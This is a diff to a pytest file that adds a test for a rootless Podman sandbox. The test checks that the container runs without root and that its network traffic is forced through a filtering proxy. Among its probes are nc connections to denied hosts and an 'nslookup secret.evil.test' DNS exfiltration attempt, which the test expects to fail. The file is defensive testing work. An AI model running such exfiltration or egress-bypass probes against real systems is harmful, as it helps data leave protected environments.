@@ -7,7 +7,7 @@ import time
 import product as products
 import pytest
 from conftest import Evidence
-from engine import Podman
+from engine import Podman, RootlessPodman
 from test_bottle import RAW_FLOW
 from test_images import context, made  # noqa: F401
 
@@ -104,6 +104,47 @@ def test_podman_ends(pproduct, podman, pbottle):
     assert pproduct.run("cleanup", "--older-than", "0", "--yes").code == 0
     assert [x["identity"] for x in pproduct.list()] == [pbottle.identity] == podman.names()
     assert pbottle.sh("echo alive").out == b"alive\n"
+
+
+def test_podman_of_a_plain_user(product, workdir, internet):
+    """Rootless: no daemon, no root, no way out but gate's sockets; what it cannot limit is said."""
+    p = products.Product(product.exe, workdir + "/rootless-home", product.netns, product.uid, product.env["XDG_CACHE_HOME"])
+    for name in ("bottles/demo.md", "config.yaml"):
+        p.write(name, open(product.home + "/.bot-bottle/" + name).read())
+    e = RootlessPodman(p)
+    try:
+        tiny = ("--bottle", "demo", "--image", e.tiny())
+        b = p.bottle(*tiny)
+        inside = int(e.podman("inspect", "--format", "{{.State.Pid}}", b.identity).stdout)
+        assert os.stat("/proc/%d" % inside).st_uid != 0  # nor on the host
+
+
+        def get(host):
+            return b.exec("sh", "-c", "p=${http_proxy#http://}; printf 'GET http://%s/hello HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\\r\\n\\r\\n' | "
+                          "nc -w 20 ${p%%:*} ${p#*:}" % (host, host)).out
+        assert b"HTTP/1.1 200" in get("allowed.test") and b"hello from the world\n" in get("allowed.test")
+        evidence = Evidence(internet, b)
+        for host in ("denied.test", "203.0.113.12"):
+            assert b"HTTP/1.1 403" in get(host), host
+        assert b.exec("sh", "-c", "nc -w 5 203.0.113.10 80 </dev/null || echo no").out == b"no\n"
+        r = b.exec("sh", "-c", "nslookup secret.evil.test; nslookup secret.evil.test 8.8.8.8; ls /sys/class/net; id -u")
+        assert b"NXDOMAIN" in r.out and r.out.split()[-2:] == [b"lo", b"1000"], r
+        evidence.nothing_left()
+        evidence.denied(kind="verdict", host="denied.test", reason="not_listed")
+        evidence.denied(kind="dns", reason="not_listed")
+        assert b"hello from the world\n" in get("allowed.test")
+        pids = b.status()["pids"]
+        assert products.kill_and_see([pids["gate"]], inside, 3) and b.proc.wait(20) == 125
+        b.close()
+        b = p.bottle(*tiny)
+        inside = int(e.podman("inspect", "--format", "{{.State.Pid}}", b.identity).stdout)
+        assert products.kill_and_see(list(b.status()["pids"].values()), inside, 3)
+        b.close()
+        r = p.run("cleanup", "--older-than", "0", "--yes")
+        assert r.code == 0 and p.list() == [] and e.names() == [], r
+        assert p.run("run", *tiny, "--", "sh", "-c", "echo out; exit 3").code == 3 and e.names() == []
+    finally:
+        e.close()
 
 
 def test_dockerfile_by_podman(pproduct, podman, context, user_cache, workdir):  # noqa: F811
